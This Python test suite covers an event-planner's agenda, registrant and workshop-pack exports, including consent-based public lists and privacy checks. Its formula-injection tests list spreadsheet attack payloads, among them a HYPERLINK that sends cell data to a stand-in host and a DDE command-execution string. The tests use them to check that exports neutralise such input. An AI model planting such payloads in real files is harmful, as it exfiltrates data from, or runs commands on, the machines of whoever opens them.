#!/usr/bin/python3
"""End-to-end tests of `planner export`: every file is read back by an
independent reader (openpyxl for xlsx, the csv module, json).

Run with Debian's /usr/bin/python3 (python3-openpyxl); PLANNER_BIN and
PLANNER_SOURCE_DIR come from the environment (CTest sets them).
"""

import csv
import datetime
import io
import json
import os
import random
import resource
import signal
import sqlite3
import string
import subprocess
import tempfile
import unittest
import zipfile

import openpyxl

PLANNER = os.environ.get("PLANNER_BIN", "planner")
SOURCE = os.environ.get(
    "PLANNER_SOURCE_DIR",
    os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
SAMPLE = os.path.join(SOURCE, "sample-events", "atelier-cem-2.json")
SLUG = "atelier-cem-2"

HEADER = ["name", "email", "organization", "origin", "travel", "seats", "meal", "diet",
          "public", "sessions"]

# A small event of our own: capacity 4, so that the waiting list fills.
SMALL_EVENT = {
    "slug": "petit-atelier",
    "title": "Petit atelier",
    "format": "in_person",
    "timezone": "Europe/Paris",
    "start": "2026-12-10T09:00",
    "end": "2026-12-10T12:00",
    "capacity": 4,
    "venue": {"name": "Maison des associations", "address": "Orléans",
              "lat": 47.9029, "lon": 1.9093},
    "speakers": [{"id": "a", "name": "Anne Morvan", "organization": "ADEME"}],
    "sessions": [
        {"id": "intro", "title": "Introduction", "kind": "talk", "start": "09:00",
         "end": "09:30", "room": "Salle 1", "speakers": ["a"]},
        {"id": "atelier", "title": "Atelier", "kind": "workshop", "start": "09:30",
         "end": "11:00", "room": "Salle 2", "capacity": 4},
        {"id": "dejeuner", "title": "Déjeuner", "kind": "meal", "start": "11:00",
         "end": "12:00"},
    ],
    "status": "published",
}


def reg(name, email, org="", origin="", travel="none", seats="", meal="no", diet="",
        public="no", sessions=""):
    return [name, email, org, origin, travel, seats, meal, diet, public, sessions]


class ExportTest(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="planner-exports-")
        self.dir = self.tmp.name
        self.db = os.path.join(self.dir, "planner.db")
        self.run_ok("init")

    def tearDown(self):
        self.tmp.cleanup()

    def path(self, name):
        return os.path.join(self.dir, name)

    def run_planner(self, *args, preexec=None):
        return subprocess.run([PLANNER, "--db", self.db, *args], capture_output=True,
                              text=True, cwd=self.dir, preexec_fn=preexec)

    def run_ok(self, *args):
        p = self.run_planner(*args)
        self.assertEqual(p.returncode, 0, f"planner {' '.join(args)}: {p.stderr}")
        return p

    def import_event(self, event):
        path = self.path(event["slug"] + ".json")
        with open(path, "w", encoding="utf-8") as f:
            json.dump(event, f, ensure_ascii=False)
        self.run_ok("event", "import", path)

    def import_registrations(self, slug, rows):
        path = self.path("regs.csv")
        with open(path, "w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows([HEADER] + rows)
        self.run_ok("registrations", "import", slug, path)

    def export(self, kind, slug, name, *options):
        out = self.path(name)
        self.run_ok("export", kind, slug, "-o", out, *options)
        return out

    def secrets(self):
        """Every (email, token, uid) in the database, read independently."""
        con = sqlite3.connect(self.db)
        try:
            return con.execute("SELECT email, token, uid FROM registrations").fetchall()
        finally:
            con.close()


def sheet_rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


def xlsx_text(path):
    """All the XML of an xlsx, as one string."""
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


class AgendaExportTest(ExportTest):
    def setUp(self):
        super().setUp()
        self.import_event(SMALL_EVENT)
        self.import_registrations("petit-atelier", [
            reg("Anne Dupont", "anne@example.org", sessions="atelier"),
            reg("Bruno Martin", "bruno@example.org", sessions="atelier|intro"),
        ])
        # the second version drops the lunch: it stays, cancelled
        changed = dict(SMALL_EVENT, sessions=SMALL_EVENT["sessions"][:2])
        self.import_event(changed)

    def test_xlsx(self):
        wb = openpyxl.load_workbook(self.export("agenda", "petit-atelier", "agenda.xlsx"))
        self.assertEqual(wb.sheetnames, ["Agenda"])
        ws = wb["Agenda"]
        rows = sheet_rows(ws)
        self.assertEqual(rows[0], ["Date", "Start", "End", "Duration (min)", "Room", "Kind",
                                   "Title", "Speakers", "Capacity", "Registered", "Status",
                                   "Session"])
        self.assertEqual(len(rows), 4)
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertEqual(ws.auto_filter.ref, "A1:L4")
        for cell in ws[1]:
            self.assertTrue(cell.font.b, "header is bold")
        by_id = {r[11]: r for r in rows[1:]}
        intro = by_id["intro"]
        # real dates and times, numbers as numbers
        self.assertEqual(intro[0], datetime.datetime(2026, 12, 10))
        self.assertEqual(intro[1], datetime.time(9, 0))
        self.assertEqual(intro[2], datetime.time(9, 30))
        self.assertIsInstance(intro[3], int)
        self.assertEqual(intro[3], 30)
        self.assertEqual(intro[7], "Anne Morvan (ADEME)")
        self.assertEqual(intro[9], 1)
        self.assertEqual(by_id["atelier"][8], 4)
        self.assertEqual(by_id["atelier"][9], 2)
        self.assertEqual(by_id["dejeuner"][10], "cancelled")
        self.assertEqual(intro[10], "scheduled")
        self.assertTrue(ws["A2"].is_date)
        self.assertEqual(wb.properties.title, "Agenda — Petit atelier")
        self.assertTrue(wb.properties.creator)
        # column widths fit the content
        self.assertGreaterEqual(ws.column_dimensions["G"].width, len("Introduction"))

    def test_csv_and_json(self):
        with open(self.export("agenda", "petit-atelier", "agenda.csv"), encoding="utf-8",
                  newline="") as f:
            rows = list(csv.reader(f))
        self.assertEqual(rows[1][:4], ["2026-12-10", "09:00", "09:30", "30"])
        self.assertEqual(len(rows), 4)
        with open(self.export("agenda", "petit-atelier", "agenda.json"), encoding="utf-8") as f:
            doc = json.load(f)
        self.assertEqual(doc["kind"], "agenda")
        self.assertEqual(doc["event"]["slug"], "petit-atelier")
        s = {x["id"]: x for x in doc["sessions"]}
        self.assertEqual(s["intro"]["date"], "2026-12-10")
        self.assertEqual(s["intro"]["start"], "09:00")
        self.assertEqual(s["intro"]["duration_minutes"], 30)
        self.assertEqual(s["atelier"]["registered"], 2)
        self.assertIsNone(s["intro"]["capacity"])
        self.assertEqual(s["dejeuner"]["status"], "cancelled")

    def test_format_option_and_bad_usage(self):
        out = self.path("agenda.data")
        self.run_ok("export", "agenda", "petit-atelier", "-o", out, "--format", "json")
        with open(out, encoding="utf-8") as f:
            self.assertEqual(len(json.load(f)["sessions"]), 3)
        p = self.run_planner("export", "agenda", "petit-atelier", "-o", self.path("x.txt"))
        self.assertEqual(p.returncode, 2)
        self.assertIn("planner:", p.stderr)
        p = self.run_planner("export", "agenda", "nope", "-o", self.path("x.csv"))
        self.assertEqual(p.returncode, 1)
        self.assertFalse(os.path.exists(self.path("x.csv")))
        p = self.run_planner("export", "pack", "petit-atelier", "-o", self.path("x.csv"))
        self.assertEqual(p.returncode, 2)


class RegistrantsExportTest(ExportTest):
    NAMES = ["Zoé Martin", "Ödön Horváth", "Élodie Blanc", "Emma Petit", "de la Tour Jean",
             "Dupont Marie", "Olivier Roux", "Delacroix Paul", "Éric Moreau", "eric Bernard"]
    # French order: accents folded first, spaces ignored (delacroix < delatour)
    PUBLIC_ORDER = ["Delacroix Paul", "de la Tour Jean", "Dupont Marie", "Élodie Blanc",
                    "Emma Petit", "eric Bernard", "Éric Moreau", "Ödön Horváth",
                    "Olivier Roux", "Zoé Martin"]

    def setUp(self):
        super().setUp()
        self.import_event(SMALL_EVENT)
        rows = [reg("Anne Dupont", "anne@example.org", "ADEME", "45000 Orléans", "drive", "3",
                    "yes", "végétarien", "yes", "atelier"),
                reg("Bruno Martin", "bruno@example.org", "CCI", "Chartres", "ride", "", "yes",
                    "", "no", "intro"),
                reg("Chloé Roy", "chloe@example.org", "Ville", "", "none", "", "no", "", "yes"),
                reg("Denis Lévy", "denis@example.org", "Région", "Tours", "flexible", "2", "yes",
                    "Végétarien", "yes"),
                # beyond the capacity of 4: waiting list
                reg("Émile Zola", "emile@example.org", "Presse", "", "none", "", "yes", "",
                    "yes"),
                reg("Fanny Ardant", "fanny@example.org", "Cinéma", "", "none", "", "yes", "",
                    "yes")]
        self.import_registrations("petit-atelier", rows)

    def test_organiser_xlsx(self):
        wb = openpyxl.load_workbook(self.export("registrants", "petit-atelier", "r.xlsx"))
        self.assertEqual(wb.sheetnames, ["Registrants"])
        ws = wb.active
        rows = sheet_rows(ws)
        head = rows[0]
        self.assertEqual(head[:4], ["Name", "E-mail", "Organization", "Origin"])
        self.assertEqual(len(rows), 7)
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertEqual(ws.auto_filter.ref, "A1:Q7")
        col = {h: i for i, h in enumerate(head)}
        by_name = {r[0]: r for r in rows[1:]}
        anne = by_name["Anne Dupont"]
        self.assertEqual(anne[col["E-mail"]], "anne@example.org")
        self.assertEqual(anne[col["Commune"]], "Orléans")
        self.assertEqual(anne[col["Travel"]], "drive")
        self.assertEqual(anne[col["Seats"]], 3)
        self.assertIsInstance(anne[col["Seats"]], int)
        self.assertEqual(anne[col["Diet"]], "végétarien")
        self.assertEqual(anne[col["Sessions"]], "atelier")
        self.assertIsInstance(anne[col["Registered (UTC)"]], datetime.datetime)
        self.assertIsNone(by_name["Bruno Martin"][col["Seats"]])
        # the waiting list is marked, in order, after the confirmed people
        statuses = [r[col["Status"]] for r in rows[1:]]
        self.assertEqual(statuses, ["confirmed"] * 4 + ["waitlisted"] * 2)
        self.assertEqual([r[col["Waiting list"]] for r in rows[5:]], [1, 2])
        self.assertEqual([r[0] for r in rows[5:]], ["Émile Zola", "Fanny Ardant"])
        # never the secret token
        for _, token, _ in self.secrets():
            self.assertNotIn(token, xlsx_text(self.path("r.xlsx")))

    def test_organiser_csv_excel_and_json(self):
        raw = read_bytes(self.export("registrants", "petit-atelier", "r.csv", "--excel"))
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
        self.assertEqual(rows[0][:3], ["Name", "E-mail", "Organization"])
        self.assertEqual(len(rows), 7)
        self.assertTrue(all(len(r) == len(rows[0]) for r in rows))
        self.assertIn(b"\r\n", raw)
        plain = read_bytes(self.export("registrants", "petit-atelier", "r2.csv"))
        self.assertFalse(plain.startswith(b"\xef\xbb\xbf"))
        self.assertTrue(plain.startswith(b"Name,E-mail,"))
        with open(self.export("registrants", "petit-atelier", "r.json"), encoding="utf-8") as f:
            doc = json.load(f)
        self.assertEqual(doc["kind"], "registrants")
        people = {p["email"]: p for p in doc["registrants"]}
        self.assertEqual(len(people), 6)
        anne = people["anne@example.org"]
        self.assertEqual(anne["seats"], 3)
        self.assertIs(anne["meal"], True)
        self.assertIs(anne["public_list"], True)
        self.assertEqual(anne["sessions"], ["atelier"])
        self.assertEqual(anne["commune"], "Orléans")
        self.assertEqual(people["emile@example.org"]["status"], "waitlisted")
        self.assertEqual(people["emile@example.org"]["waitlist_position"], 1)
        self.assertNotIn("token", anne)

    def test_public_list_content_and_order(self):
        self.import_event(dict(SMALL_EVENT, slug="grand-atelier", capacity=100))
        rows = [reg(n, f"p{i}@example.org", f"Org {i}", "Paris", public="yes")
                for i, n in enumerate(self.NAMES)]
        rows.append(reg("Secret Person", "secret@example.org", "Hidden", public="no"))
        self.import_registrations("grand-atelier", rows)
        wb = openpyxl.load_workbook(
            self.export("registrants", "grand-atelier", "p.xlsx", "--public"))
        got = sheet_rows(wb.active)
        self.assertEqual(got[0], ["Name", "Organization"])
        self.assertEqual([r[0] for r in got[1:]], self.PUBLIC_ORDER)
        with open(self.export("registrants", "grand-atelier", "p.json", "--public"),
                  encoding="utf-8") as f:
            doc = json.load(f)
        self.assertEqual(doc["kind"], "public-list")
        self.assertEqual([p["name"] for p in doc["registrants"]], self.PUBLIC_ORDER)
        self.assertEqual(set(doc["registrants"][0]), {"name", "organization"})
        with open(self.export("registrants", "grand-atelier", "p.csv", "--public"),
                  encoding="utf-8", newline="") as f:
            self.assertEqual([r[0] for r in list(csv.reader(f))[1:]], self.PUBLIC_ORDER)

    def test_public_list_leaves_out_waiting_and_unconsenting(self):
        out = self.export("registrants", "petit-atelier", "p.csv", "--public")
        with open(out, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        # Bruno did not consent; Émile and Fanny are on the waiting list
        self.assertEqual(rows, [["Name", "Organization"], ["Anne Dupont", "ADEME"],
                                ["Chloé Roy", "Ville"], ["Denis Lévy", "Région"]])


class FormulaInjectionTest(ExportTest):
    EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1", "-1",
            "=1+1", "=cmd|' /C calc'!A0"]

    def setUp(self):
        super().setUp()
        self.import_event(dict(SMALL_EVENT, capacity=100))
        self.import_registrations("petit-atelier", [
            reg(name, f"e{i}@example.org", name, public="yes")
            for i, name in enumerate(self.EVIL)])

    def test_xlsx_writes_strings_never_formulas(self):
        for opt in ([], ["--public"]):
            path = self.export("registrants", "petit-atelier", "f.xlsx", *opt)
            wb = openpyxl.load_workbook(path)
            ws = wb.active
            names = []
            for row in ws.iter_rows(min_row=2):
                self.assertEqual(row[0].data_type, "s")
                self.assertEqual(row[1].data_type, "s") if opt else None
                names.append(row[0].value)
            self.assertEqual(sorted(names), sorted(self.EVIL))
            self.assertNotIn("<f>", xlsx_text(path))
        pack = self.export("pack", "petit-atelier", "pack.xlsx")
        self.assertNotIn("<f>", xlsx_text(pack))

    def test_csv_neutralises(self):
        for opt in ([], ["--excel"]):
            raw = read_bytes(self.export("registrants", "petit-atelier", "f.csv", *opt))
            text = raw.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline=""),
                                   delimiter=";" if opt else ","))
            names = [r[0] for r in rows[1:]]
            self.assertEqual(sorted(names), sorted("'" + n for n in self.EVIL))
            for r in rows[1:]:
                for cell in r:
                    self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)


class PackExportTest(ExportTest):
    def setUp(self):
        super().setUp()
        self.run_ok("event", "import", SAMPLE)
        self.import_registrations(SLUG, [
            reg("Anne Dupont", "anne@example.org", "ADEME", meal="yes", diet="végétarien"),
            reg("Bruno Martin", "bruno@example.org", "CCI", meal="yes", diet="Végétarien "),
            reg("Chloé Roy", "chloe@example.org", "Ville", meal="yes"),
            reg("Denis Lévy", "denis@example.org", "Région", meal="yes", diet="halal"),
            reg("Émile Zola", "emile@example.org", "Presse", meal="no"),
        ])

    def test_pack(self):
        path = self.export("pack", SLUG, "pack.xlsx")
        wb = openpyxl.load_workbook(path)
        self.assertEqual(wb.sheetnames, ["Registrants", "Agenda", "Catering", "Sign-in"])
        self.assertTrue(wb.properties.title.startswith("Workshop pack"))
        for ws in wb:
            self.assertEqual(ws.freeze_panes, "A2", ws.title)
            self.assertIsNotNone(ws.auto_filter.ref, ws.title)
        self.assertEqual(len(sheet_rows(wb["Registrants"])), 6)
        self.assertEqual(len(sheet_rows(wb["Agenda"])), 15)
        catering = sheet_rows(wb["Catering"])
        self.assertEqual(catering[0], ["Diet", "Meals"])
        self.assertEqual(catering[1:], [["No special diet", 1], ["halal", 1],
                                        ["végétarien", 2], ["Total", 4]])
        self.assertEqual(wb["Catering"].auto_filter.ref, "A1:B4")
        self.assertTrue(wb["Catering"]["A5"].font.b)
        signin = wb["Sign-in"]
        rows = sheet_rows(signin)
        self.assertEqual(rows[0], ["Name", "Organization", "Signature"])
        self.assertEqual([r[0] for r in rows[1:]],
                         ["Anne Dupont", "Bruno Martin", "Chloé Roy", "Denis Lévy",
                          "Émile Zola"])
        self.assertTrue(all(r[2] is None for r in rows[1:]))
        self.assertEqual(signin.page_setup.orientation, "landscape")
        self.assertEqual(signin.print_title_rows, "$1:$1")
        self.assertTrue(signin.sheet_properties.pageSetUpPr.fitToPage)
        self.assertIn(signin.page_setup.fitToWidth, (None, 1))  # 1 is the default
        self.assertEqual(signin.page_setup.fitToHeight, 0)
        self.assertGreaterEqual(signin.column_dimensions["C"].width, 40)

    def test_demo_writes_the_pack(self):
        out = self.path("demo")
        p = subprocess.run([PLANNER, "demo", "--out", out], capture_output=True, text=True)
        self.assertEqual(p.returncode, 0, p.stderr)
        wb = openpyxl.load_workbook(os.path.join(out, SLUG + ".pack.xlsx"))
        self.assertIn("Sign-in", wb.sheetnames)


class PrivacyPropertyTest(ExportTest):
    """For many random inputs, no e-mail address, token or uid appears anywhere
    in any public export."""

    def test_public_exports_never_leak(self):
        rnd = random.Random(20261210)
        self.import_event(dict(SMALL_EVENT, capacity=1000))
        letters = string.ascii_letters + "éèàçÉÖœ' -"
        for round_ in range(12):
            rows = []
            for i in range(rnd.randint(1, 25)):
                local = "".join(rnd.choice(string.ascii_lowercase) for _ in range(8))
                name = "".join(rnd.choice(letters) for _ in range(rnd.randint(3, 20))).strip()
                rows.append(reg(name or "x", f"{local}{round_}x{i}@ex{rnd.randint(0, 99)}.org",
                                rnd.choice(["", "ADEME", "CCI", local[:4]]),
                                rnd.choice(["", "Paris", "Lyon"]),
                                public=rnd.choice(["yes", "no"])))
            self.import_registrations("petit-atelier", rows)
            secrets = self.secrets()
            texts = []
            for name, opt in (("p.xlsx", []), ("p.csv", []), ("p.csv", ["--excel"]),
                              ("p.json", [])):
                path = self.export("registrants", "petit-atelier", name, "--public", *opt)
                texts.append(xlsx_text(path) if name.endswith(".xlsx")
                             else read_bytes(path).decode("utf-8-sig"))
            blob = "\n".join(texts)
            self.assertNotIn("@", blob.replace("@example", ""))  # no address at all
            for email, token, uid in secrets:
                self.assertNotIn(email, blob)
                self.assertNotIn(email.split("@")[0], blob)
                self.assertNotIn(token, blob)
                self.assertNotIn(uid, blob)


class AtomicWriteTest(ExportTest):
    def setUp(self):
        super().setUp()
        self.import_event(dict(SMALL_EVENT, capacity=1000))
        # text that compresses badly, so that even the xlsx is large
        rnd = random.Random(7)
        noise = lambda: "".join(rnd.choice(string.ascii_letters) for _ in range(50))
        self.import_registrations("petit-atelier", [
            reg(f"Person {i:04d} {noise()}", f"p{i}@example.org", noise()) for i in range(800)])

    def test_unwritable_path(self):
        for target in ("/nonexistent-dir/out.xlsx", self.path("regs.csv/out.csv")):
            p = self.run_planner("export", "registrants", "petit-atelier", "-o", target)
            self.assertEqual(p.returncode, 3, p.stderr)
            self.assertIn(f"planner: {target}", p.stderr)
            self.assertEqual(p.stderr.count("\n"), 1, "one clear line")

    def test_failed_export_keeps_previous_file(self):
        def small_files():
            # writes past 40 kB fail (EFBIG) instead of killing the process
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (40000, 40000))

        for name in ("big.csv", "big.xlsx", "big.json"):
            target = self.path(name)
            with open(target, "w") as f:
                f.write("previous contents")
            p = self.run_planner("export", "registrants", "petit-atelier", "-o", target,
                                 preexec=small_files)
            self.assertEqual(p.returncode, 3, f"{name}: {p.stderr}")
            self.assertIn("planner:", p.stderr)
            with open(target) as f:
                self.assertEqual(f.read(), "previous contents", name)
            leftovers = [n for n in os.listdir(self.dir) if ".tmp-" in n]
            self.assertEqual(leftovers, [], name)
        # and without the limit it succeeds, replacing the file whole
        target = self.export("registrants", "petit-atelier", "big.csv")
        with open(target, encoding="utf-8", newline="") as f:
            self.assertEqual(len(list(csv.reader(f))), 801)


if __name__ == "__main__":
    unittest.main(verbosity=2)
